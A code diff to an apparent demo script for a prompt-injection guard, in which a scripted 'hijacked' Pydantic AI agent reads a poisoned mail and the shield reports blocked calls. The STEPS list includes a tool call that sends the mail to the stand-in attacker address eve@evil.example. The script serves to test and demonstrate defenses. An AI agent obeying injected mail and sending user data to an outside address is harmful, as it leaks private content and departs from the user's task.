@@ -1,4 +1,4 @@
-"""A Pydantic AI agent that reads a poisoned mail, and what the shield makes of it.
+"""A Pydantic AI agent that reads a poisoned mail, guarded by the shield.
 
 Runs without a network: the model below is a script that does what a hijacked model would do.
 """
@@ -9,7 +9,7 @@ from pydantic_ai.models.function import AgentInfo, FunctionModel
 from taskshield import AsyncShield, Decision
 from taskshield.integrations.pydantic_ai import TaskShield
 
-WISH = "Read my newest mail and send alice@example.com a mail that we meet on Friday."
+TASK = "Read my newest mail and send alice@example.com a mail that we meet on Friday."
 
 MAIL = """From: alice@example.com
 When do we meet?
@@ -31,23 +31,23 @@ def send_mail(to: str, text: str) -> str:
 
 STEPS: list[ToolCallPart | TextPart] = [
     ToolCallPart("read_mail", {}),
-    ToolCallPart("send_mail", {"to": "eve@evil.example", "text": MAIL}),  # it fell for the mail
+    ToolCallPart("send_mail", {"to": "eve@evil.example", "text": MAIL}),  # follows the mail
     ToolCallPart("send_mail", {"to": "alice@example.com", "text": "We meet on Friday."}),
     TextPart("I told Alice."),
 ]
 
 
 def hijacked(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
-    """The stand-in for a model: the next step, whatever it is shown."""
+    """A script instead of a model: the next step, for any input."""
     answers = [message for message in messages if isinstance(message, ModelResponse)]
     return ModelResponse([STEPS[len(answers)]])
 
 
 def report(decision: Decision) -> None:
-    """Say which calls were held back, and why."""
+    """Print the blocked calls and the reasons."""
     for finding in decision.findings:
         if finding.call_id is not None and not finding.aligned:
-            print(f"  held: {finding.reason}")
+            print(f"  blocked: {finding.reason}")
 
 
 agent = Agent(
@@ -57,5 +57,5 @@ agent = Agent(
 )
 
 if __name__ == "__main__":
-    print(f"User: {WISH}")
-    print(f"Agent: {agent.run_sync(WISH).output}")
+    print(f"User: {TASK}")
+    print(f"Agent: {agent.run_sync(TASK).output}")
